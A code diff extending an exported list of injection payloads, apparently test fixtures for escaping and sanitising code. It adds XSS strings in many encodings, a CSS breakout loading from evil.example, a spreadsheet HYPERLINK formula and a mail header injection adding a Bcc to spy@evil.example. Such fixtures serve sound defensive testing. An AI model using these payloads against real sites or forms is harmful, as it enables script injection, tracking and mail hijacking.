@@ -1,4 +1,6 @@
-/** Injection payloads for tags, attributes, scripts, addresses and templates. */
+/**
+ * Injection payloads: tags, attributes, handlers, addresses, templates, Markdown, styles, encodings, and lines of CSV and mail. Each that runs calls `alert`.
+ */
 export const PAYLOADS: readonly string[] = [
   '<script>alert(1)</script>',
   '</script><script>alert(1)</script>',
@@ -32,4 +34,21 @@ export const PAYLOADS: readonly string[] = [
   'line\u2028of\u2029lines',
   '\u202Egpj.tpircs\u202C',
   '<ſcript>alert(1)</ſcript>',
+  '＜script＞alert(1)＜/script＞',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '%253Cscript%253Ealert(1)%253C%252Fscript%253E',
+  '&amp;lt;script&amp;gt;alert(1)',
+  '</style><script>alert(1)</script>',
+  '</textarea></noscript><img src=x onerror=alert(1)>',
+  'tea" style="position:fixed;inset:0;background:url(//evil.example/x)',
+  '<details open ontoggle=alert(1)>tea</details>',
+  '<input autofocus onfocus=alert(1)>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">tea</button></form>',
+  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  '[tea](javascript:alert(1)) ![tea](x"onerror="alert(1))',
+  '`${alert(1)}`',
+  '=HYPERLINK("https://evil.example","tea")',
+  'tea\r\nBcc: spy@evil.example\r\n\r\n<b>tea</b>',
 ]
